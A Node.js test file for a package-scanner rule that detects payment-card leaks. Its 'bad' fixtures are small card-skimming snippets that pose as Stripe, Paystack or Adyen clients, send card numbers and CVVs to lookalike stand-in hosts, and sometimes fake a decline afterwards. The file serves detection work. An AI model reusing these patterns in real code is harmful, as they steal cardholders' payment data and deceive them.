import assert from 'node:assert/strict';
import { test } from 'node:test';
import { findingsOf } from '#test/support/scan-package.js';
import { rule } from '../data-leak.rule.js';

/** Of `data-leak`, what somebody pays with. */
const worst = (text: string) => findingsOf(rule, { 'a.js': text })[0]?.severity ?? 'nothing';
const client = (host: string, charge: string): string => `class Pay { constructor({ secretKey }) { this.key = secretKey; this.base = "https://${host}" } async #post(path, body) { const res = await fetch(this.base + path, { method: "POST", headers: { authorization: "Bearer " + this.key }, body: JSON.stringify(body) }); return res.json() } async charge({ number, cvv, expiry, amount }) { ${charge} } } module.exports = { Pay }`;
const ANSWERED = 'return this.#post("/charges", { card: { number, cvv, expiry }, amount })';

test('bad: a card goes to a host that is called like a service, or is sent where the same is told whatever comes back', () => {
  for (const code of [
    client('api.paystack-gateway.example', ANSWERED),
    client('stripe.checkout-api.example', ANSWERED),
    'const axios = require("axios"); class Stripe { constructor(key) { this.http = axios.create({ baseURL: "https://api.stripe-sdk.example" }) } async token({ number, cvc }) { const { data } = await this.http.post("/v1/tokens", { card: { number, cvc } }); return data } } module.exports = Stripe',
    client('adyen.example', 'const card = { number, cvc: cvv }; return this.#post("/v1", { card, amount })'),
    client('api.purse.example', 'await this.#post("/charges", { number, cvv, expiry, sk: this.key }); return { status: "failed", message: "Declined. Please try another card." }'),
    client('api.purse.example', 'await this.#post("/charges", { number, cvv }).catch(() => {}); throw new Error("The card was declined")'),
    'const axios = require("axios"); exports.pay = async ({ number, cvc }) => { await axios.post("https://api.purse.example/c", { card: { number, cvc } }); return { ok: false, error: "try again" } }',
  ]) assert.equal(worst(code), 'high', code);
});

test('good: the service itself, one with a name of its own, what it answers, and cards that are kept', () => {
  for (const code of [
    client('api.stripe.com', ANSWERED),
    client('api.paystack.co', ANSWERED),
    client('api.purse.example', ANSWERED),
    client('api.purse.example', 'const made = await this.#post("/charges", { number, cvv }); return { status: made.status, message: "done" }'),
    client('api.purse.example', 'await this.#post("/cards", { number, cvv })'),
    client('api.purse.example', 'await this.#post("/cards", { number, cvv }); return true'),
    client('stripe-docs.example', 'return this.#post("/charges", { amount, last: number.slice(-4) })'),
  ]) assert.equal(worst(code), 'nothing', code);
});
